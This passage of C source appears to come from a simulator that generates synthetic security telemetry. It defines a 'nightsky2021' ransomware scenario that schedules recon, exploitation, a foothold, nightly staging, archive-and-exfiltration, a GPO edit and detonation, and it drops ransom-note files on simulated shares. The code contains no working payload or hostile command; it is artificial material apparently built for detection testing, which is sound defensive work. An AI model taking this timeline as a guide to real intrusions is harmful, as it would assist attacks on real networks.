                tn += 20 * 10000 + kz_sim_rng_below(&g->rng, 200) * 10000;
                sim_share_file(g, fs, tn, n->backdoor, lid, src, SHARE_PROJECTS,
                               SHARE_PROJECTS_LOCAL,
                               sim_strf(d, "%s.nightsky", sim_customer_path(d, c, k)), 2);
            }
            sim_share_file(g, fs, tn + 10000, n->backdoor, lid, src, SHARE_PROJECTS,
                           SHARE_PROJECTS_LOCAL,
                           sim_strf(d, "%s\\NightSkyReadMe.hta", e->customers[c].folder), 2);
        }
        sim_logoff(g, fs, tn + 30 * SEC, n->backdoor, lid, 3);
    }
}

static void ns_day(struct sim_day *d, void *state) {
    struct nightsky *n = state;
    struct sim_gen g;
    sim_gen_init(&g, d, STREAM + 1);
    kz_time t0 = d->t0;
    if (d->day == n->d_recon) recon(&g, n, t0 + 2 * HOUR + 10 * MIN);
    if (d->day == n->d_exploit) {
        kz_time t = t0 + 3 * HOUR + 5 * MIN;
        exploit(&g, n, t);
        foothold(&g, n, t + 15 * MIN);
    }
    /* Staging: every night between the foothold and the GPO edit (or, when the run is too short
     * for nights in between, once on the GPO day). */
    uint32_t first = n->d_exploit + 1, last = n->d_gpo ? n->d_gpo - 1 : 0;
    uint32_t nights = last >= first ? last - first + 1 : 0;
    int stage_today = nights ? d->day >= first && d->day <= last : d->day == n->d_gpo;
    if (stage_today) {
        uint32_t per = nights ? (n->nstage + nights - 1) / nights : n->nstage;
        kz_time t = nights ? t0 + HOUR + kz_sim_rng_below(&g.rng, 3600) * SEC : t0 + 10 * HOUR;
        stage_night(&g, n, t, per);
        if (n->staged >= n->nstage && !n->archived) {
            n->archived = 1;
            archive_and_exfil(&g, n, t + 3 * HOUR);
        }
    }
    if (d->day == n->d_gpo) gpo_edit(&g, n, t0 + 21 * HOUR);
    if (d->day == n->d_boom) {
        kz_time t = d->day > n->d_gpo ? t0 + 4 * HOUR : t0 + 22 * HOUR + 30 * MIN;
        detonate(&g, n, t);
    }
}

const struct sim_scenario sim_scenario_nightsky2021 = {
    .name = NAME, .plan = ns_plan, .day = ns_day, .free = ns_free};
